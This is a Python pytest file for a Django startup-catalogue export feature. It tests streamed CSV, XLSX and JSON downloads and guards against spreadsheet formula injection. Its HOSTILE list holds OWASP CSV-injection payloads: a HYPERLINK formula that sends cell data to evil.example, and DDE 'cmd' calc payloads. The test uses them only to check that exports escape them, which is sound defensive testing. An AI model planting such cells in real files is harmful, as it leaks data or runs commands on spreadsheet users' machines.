"""Downloads of a whole selection (startups.downloads): read a chunk of rows at a
time, answered whole while small, streamed once large, with the same content
either way."""

import csv
import io
import re

import openpyxl
import pytest
from django.core.cache import cache

from startups.models import Incubator

pytestmark = pytest.mark.django_db

DOWNLOADS = [
    "/startups/export.csv",
    "/en/startups/export.csv?phase=investigation",
    "/api/v2.7/startups.json",
    "/api/v2.7/incubators.json",
    "/api/v2.7/startups_details.json",
    "/api/v2.7/startups.csv",
]
# Every spreadsheet download: (address, delimiter); None for the .xlsx.
SPREADSHEETS = [
    ("/startups/export.csv", ","),
    ("/en/startups/export.csv", ","),
    ("/api/v2.7/startups.csv", ";"),
    ("/api/v2.7/startups.csv?incubator=lab-0", ";"),
    ("/startups/export.xlsx", None),
    ("/en/startups/export.xlsx?incubator=lab-0", None),
]
# Cells a spreadsheet would run as formulas (OWASP, CSV Injection).
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def catalogue(make_startup, make_incubator, make_organisation):
    labs = [make_incubator(slug=f"lab-{i}") for i in range(3)]
    sponsor = make_organisation()
    for i in range(7):
        make_startup(
            slug=f"service-{i}",
            title=f"Service « {i} »",
            incubator=labs[i % 2],  # lab-2 has none
            sponsors=[sponsor],
        ).co_incubators.add(labs[2 - i % 2])
    return Incubator.objects.all()


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("url", DOWNLOADS)
def test_a_large_download_is_streamed_with_the_same_content(
    client, catalogue, monkeypatch, url
):
    # Three rows a read: the prefetched lists must follow each chunk.
    monkeypatch.setattr("startups.downloads.CHUNK_SIZE", 3)
    whole = client.get(url)
    assert whole.status_code == 200
    assert not whole.streaming
    cache.clear()

    monkeypatch.setattr("startups.downloads.IN_MEMORY_LIMIT", 100)
    streamed = client.get(url)

    assert streamed.status_code == 200
    assert streamed.streaming
    assert body(streamed) == body(whole)
    assert streamed["Content-Type"] == whole["Content-Type"]
    # Still tagged, so that a current copy gets a 304; never kept whole.
    assert streamed["ETag"] == whole["ETag"]
    again = client.get(url, headers={"if-none-match": streamed["ETag"]})
    assert again.status_code == 304
    # Built again, streamed again (read to the end: on PostgreSQL the rows come
    # from a server-side cursor, closed when the stream ends).
    later = client.get(url)
    assert later.streaming
    assert body(later) == body(whole)


def test_a_streamed_csv_keeps_the_language_of_the_request(
    client, catalogue, monkeypatch
):
    monkeypatch.setattr("startups.downloads.IN_MEMORY_LIMIT", 100)

    response = client.get("/en/startups/export.csv")
    # Another request in between, in French, on the same thread.
    client.get("/")
    lines = body(response).decode("utf-8-sig").splitlines()

    assert lines[0].startswith("identifier,title,")
    # Every row, the last ones written after the French request too.
    assert len(lines) == 8
    assert all(",Not assessed," in line for line in lines[1:])


@pytest.fixture
def hostile(make_startup, make_incubator):
    lab = make_incubator(slug="lab-0")
    return [
        make_startup(slug=f"hostile-{i}", title=text, mission=text, incubator=lab)
        for i, text in enumerate(HOSTILE)
    ]


def ooxml_text(value: str) -> str:
    # A control character is written _x000D_ in the file (OOXML), which Excel
    # shows as the character; openpyxl leaves it as written in inline strings.
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def cells(url, delimiter, response) -> list[list[str]]:
    if delimiter is None:
        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
        rows = []
        for row in sheet.iter_rows():
            # Text cells, never formulas: what the spreadsheet will show.
            assert all(cell.data_type in ("s", "n") for cell in row), url
            rows.append([ooxml_text(cell.value or "") for cell in row])
        return rows
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("url, delimiter", SPREADSHEETS)
def test_no_download_lets_a_cell_run_as_a_formula(client, hostile, url, delimiter):
    r = client.get(url)
    assert r.status_code == 200
    rows = cells(url, delimiter, r)
    # A CSV with "\n" line endings writes a carriage return as a line break.
    hostile = HOSTILE if delimiter != ";" else [t.replace("\r", "\n") for t in HOSTILE]
    planted = [row for row in rows if any(c.lstrip("'") in hostile for c in row)]
    assert len(planted) == len(HOSTILE)
    for row in rows:
        for cell in row:
            if delimiter is None:
                continue  # typed as text above
            # OWASP: a cell starting with = + - @ tab or CR is prefixed with '.
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
    for row in planted:
        texts = [c for c in row if c.lstrip("'") in hostile]
        assert len(texts) == 2  # title and mission
        for text in texts:
            if delimiter is None:
                assert text in HOSTILE  # the text itself, as text
            else:
                assert text.startswith("'") and text[1:] in hostile


def test_the_xlsx_export_has_the_csv_exports_rows(client, catalogue):
    csv_rows = cells("csv", ",", client.get("/startups/export.csv"))
    r = client.get("/startups/export.xlsx")
    assert r["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert r["Content-Disposition"] == 'attachment; filename="startups.xlsx"'
    assert cells("xlsx", None, r) == csv_rows
